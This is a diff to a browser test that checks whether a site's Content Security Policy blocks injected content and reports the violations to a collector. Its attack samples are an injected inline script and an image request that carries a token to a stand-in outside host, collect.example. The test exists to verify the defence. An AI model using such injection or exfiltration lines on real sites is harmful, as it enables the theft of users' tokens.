@@ -1,47 +1,53 @@
+import { chromium } from "@playwright/test";
 import { browserArguments } from "../../tools/setup/browserArguments.ts";
-import { expect, expectMounted, test } from "../support/exchangeFixture.ts";
+import { expect, test } from "../support/exchangeFixture.ts";
+import { startTlsProxy } from "../support/startTlsProxy.ts";
 
 /*
- * What a policy blocks, the browser reports by itself: no script of the page is needed, so none can suppress it.
+ * What a policy blocks, the browser reports by itself, so no script of the page can suppress it. Browsers report from and
+ * to HTTPS hosts only: the page comes from a host of the product, and the report goes to the collector's.
  */
 
-test.use({
-  expectedProblems: /Content Security Policy|Integrity-Policy/,
-  launchOptions: {
-    executablePath: process.env["CHROMIUM_PATH"] ?? "",
-    // the browser waits a minute otherwise before it sends
-    args: [...browserArguments, "--short-reporting-delay"],
-  },
-});
+const pageHost = "test.portico.example";
+const collectorHost = "log.test.portico.example";
 
 const attempts = [
   {
     name: "an inline script",
     insert: () => {
-      const script = document.createElement("div");
-      script.setAttribute("onclick", "window.__pwn = 1");
+      const script = document.createElement("script");
+      script.append(document.createTextNode("window.__pwn = 1"));
       document.body.append(script);
     },
-    expected: '"type":"csp-violation"',
+    expected: '"sample":"HTMLScriptElement text|window.__pwn = 1"',
   },
   {
-    name: "an image of a host that no policy names",
-    insert: () => void (new Image().src = "http://collect.example/token"),
-    expected: "http://collect.example/token",
+    name: "an image whose address carries a token to another host",
+    insert: () => void (new Image().src = "https://collect.example/token"),
+    expected: '"blockedURL":"https://collect.example/token"',
   },
 ] as const;
 
 for (const { name, insert, expected } of attempts) {
-  test(`${name} is blocked, and the collector has the browser's report`, async ({ page, exchange }) => {
+  test(`${name} is blocked, and the collector gets the browser's report`, async ({ exchange, request }) => {
     const collector = exchange.addressOf("global", "/__collector");
-    await page.request.delete(collector);
-    await page.goto(exchange.addressOf("global", "/en/"));
-    await expectMounted(page, "header");
-    await page.evaluate(insert);
-    const readReports = async () => {
-      const reply = (await (await page.request.get(collector)).json()) as { result: { reports: unknown } };
-      return JSON.stringify(reply.result.reports);
-    };
-    await expect.poll(readReports, { timeout: 30_000 }).toContain(expected);
+    await request.delete(collector);
+    const proxy = await startTlsProxy([pageHost, collectorHost], exchange.port);
+    const browser = await chromium.launch({
+      executablePath: process.env["CHROMIUM_PATH"] ?? "",
+      // the browser sends reports after a minute otherwise
+      args: [...browserArguments, ...proxy.browserArguments, "--short-reporting-delay"],
+    });
+    try {
+      const page = await browser.newPage();
+      await page.goto(`https://${pageHost}/en/`);
+      await page.evaluate(insert);
+      const readReports = async () => (await request.get(collector)).text();
+      await expect.poll(readReports, { timeout: 30_000 }).toContain(expected);
+      expect(await page.evaluate(() => "__pwn" in window)).toBe(false);
+    } finally {
+      await browser.close();
+      proxy.close();
+    }
   });
 }
